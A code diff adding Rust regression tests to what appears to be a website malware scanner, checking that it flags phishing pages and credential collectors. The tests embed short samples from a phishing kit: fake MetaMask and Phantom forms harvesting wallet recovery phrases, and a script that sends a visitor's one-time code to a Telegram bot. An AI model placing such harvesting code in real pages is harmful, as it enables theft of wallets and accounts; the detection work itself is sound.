@@ -734,3 +734,32 @@ fn a_home_page_put_back_from_a_copy_of_no_kind_and_locked_is_a_restorer() {
     let unlocked = restorer.replace("@chmod($index, 0444);", "");
     assert!(found(&unlocked).is_empty(), "{:?}", found(&unlocked));
 }
+
+#[test]
+fn a_page_asking_for_a_wallets_recovery_phrase_is_phishing() {
+    // Regression: fresh124's fake MetaMask page stores the phrase in its database; its Phantom
+    // page posts `pkey` on.
+    let metamask = "<?php if (isset($_POST['submit'])) { $p = $_POST['phrase_recovery']; mysqli_query($con, \"INSERT INTO r VALUES ('$p')\"); } ?>\n\
+                    <form method=post><p>Enter your secret recovery phrase of 12 words</p><textarea class=\"form-control\" name=\"phrase_recovery\"></textarea></form>";
+    assert_eq!(found(metamask), [Why::PhishingPage]);
+    let phantom = "<form action=request/p.php method=post><p>Import an existing wallet with your 12 or 24-word secret recovery phrase.</p>\
+                   <textarea name=\"pkey\" placeholder=\"12 or 24 word seed phrase\"></textarea></form>";
+    assert!(asks_wallet_phrase(phantom.as_bytes()).is_some());
+    // Laravel's maintenance command names a secret phrase and asks for no field; a blog post
+    // warns of phrases over its comment form.
+    assert!(
+        asks_wallet_phrase(b"<?php $this->option('secret'); // the secret phrase that bypasses maintenance mode")
+            .is_none()
+    );
+    let blog = "<p>Never type your recovery phrase into a site.</p><form><textarea name=\"comment\"></textarea></form>";
+    assert!(asks_wallet_phrase(blog.as_bytes()).is_none());
+}
+
+#[test]
+fn a_bots_key_printed_into_the_pages_script_is_a_collector() {
+    // Regression: fresh124's Canada Post pages have the visitor's browser send the form to
+    // Telegram with the key the kit keeps in the session.
+    let page = "<?php session_start(); ?><script>const u = `https://api.telegram.org/bot<?php echo $_SESSION['TELEGRAM_BOT_KEY']?>/sendMessage`;\n\
+                fetch(u, {method: 'POST', body: JSON.stringify({text: otp.value})});</script>";
+    assert_eq!(found(page), [Why::CredentialCollector]);
+}
